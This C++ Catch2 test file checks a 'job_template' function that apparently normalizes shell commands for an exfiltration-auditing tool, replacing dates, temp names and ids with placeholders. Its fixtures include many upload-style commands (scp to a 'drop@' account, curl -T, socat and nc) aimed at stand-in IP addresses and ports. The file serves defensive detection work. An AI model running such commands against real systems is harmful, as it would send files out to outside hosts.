#include "auexfil/policy/job_template.hpp"

#include <string>

#include <catch2/catch.hpp>

using auexfil::policy::job_template;

TEST_CASE("a job's template: what each run makes up is left out, where it goes to stays") {
  struct Case {
    const char* command;
    const char* pattern;
  };
  const Case cases[] = {
      {"scp -q /srv/a.bin drop@203.0.113.11:up/", "scp -q /srv/a.bin drop@203.0.113.11:up/"},
      {"scp /srv/dump-2026-12-02.tgz bk-07:/in/", "scp /srv/dump-<date>.tgz bk-07:/in/"},
      {"scp /srv/dump-20261202.tgz bk:", "scp /srv/dump-<date>.tgz bk:"},
      {"scp /srv/dump_20261202T010203Z.tgz bk:", "scp /srv/dump_<date>.tgz bk:"},
      {"scp /srv/d20261202-0102.tgz bk:", "scp /srv/d<date>.tgz bk:"},
      {"scp /srv/2026/12/02/x bk:", "scp /srv/<date>/x bk:"},
      {"scp /srv/log.1796173321 bk:", "scp /srv/log.<date> bk:"},
      {"scp /srv/part-0017.bin bk:up/17", "scp /srv/part-<n>.bin bk:up/<n>"},
      {"scp part3.bin bk:", "scp part3.bin bk:"},
      {"curl -T /tmp/tmp.Xa81kQz9Lm ftp://203.0.113.9/up/7",
       "curl -T /tmp/tmp.<tmp> ftp://203.0.113.9/up/<n>"},
      {"curl -T /tmp/tmpq8x_2b1z http://h:8021/", "curl -T /tmp/tmp<tmp> http://h:8021/"},
      {"curl -T /var/tmp/build.aB3dE9/x http://h/", "curl -T /var/tmp/build.<tmp>/x http://h/"},
      {"sh /w/0f9c1d2e-aaaa-4bbb-8ccc-123456789abc.sh", "sh /w/<uuid>.sh"},
      {"sh /w/9f0c1d2eaa.sh", "sh /w/<hex>.sh"},
      {"/usr/bin/python3.11 /opt/push2.py -P2222 --level=3 9001",
       "/usr/bin/python3.11 /opt/push<n>.py -P2222 --level=3 9001"},
      {"python3 push.py 203.0.113.9 9001", "python3 push.py 203.0.113.9 9001"},
      {"scp x 'drop@[2001:db8::31]:up/7.b'", "scp x 'drop@[2001:db8::31]:up/<n>.b'"},
      {"socat - TCP:h1.example.org:9002", "socat - TCP:h1.example.org:9002"},
      {"ftp h1.example.org", "ftp h1.example.org"},
      {"socat -u FILE:/srv/a1.bin TCP:203.0.113.63:9002",
       "socat -u FILE:/srv/a<n>.bin TCP:203.0.113.63:9002"},
      {"backup", "backup"},
      {"", ""},
  };
  for (const Case& one : cases) {
    CHECK(job_template(one.command) == one.pattern);
  }
  CHECK(job_template(std::string(10'000, 'x')) == std::string(4096, 'x') + "...");
}

TEST_CASE("a job's template: another host, port or program is another job") {
  const char* const pairs[][2] = {
      {"scp a host1:up", "scp a host2:up"},
      {"scp a drop@203.0.113.1:up", "scp a drop@203.0.113.2:up"},
      {"curl -T a ftp://h1.example/x", "curl -T a ftp://h2.example/x"},
      {"nc 203.0.113.1 9001", "nc 203.0.113.1 9002"},
      {"nc host1 9001", "nc host2 9001"},
      {"sftp drop@host1", "sftp drop@host2"},
      {"scp -P2222 a h:", "scp -P22 a h:"},
      {"python2 x", "python3 x"},
  };
  for (const auto& pair : pairs) {
    CHECK(job_template(pair[0]) != job_template(pair[1]));
  }
}
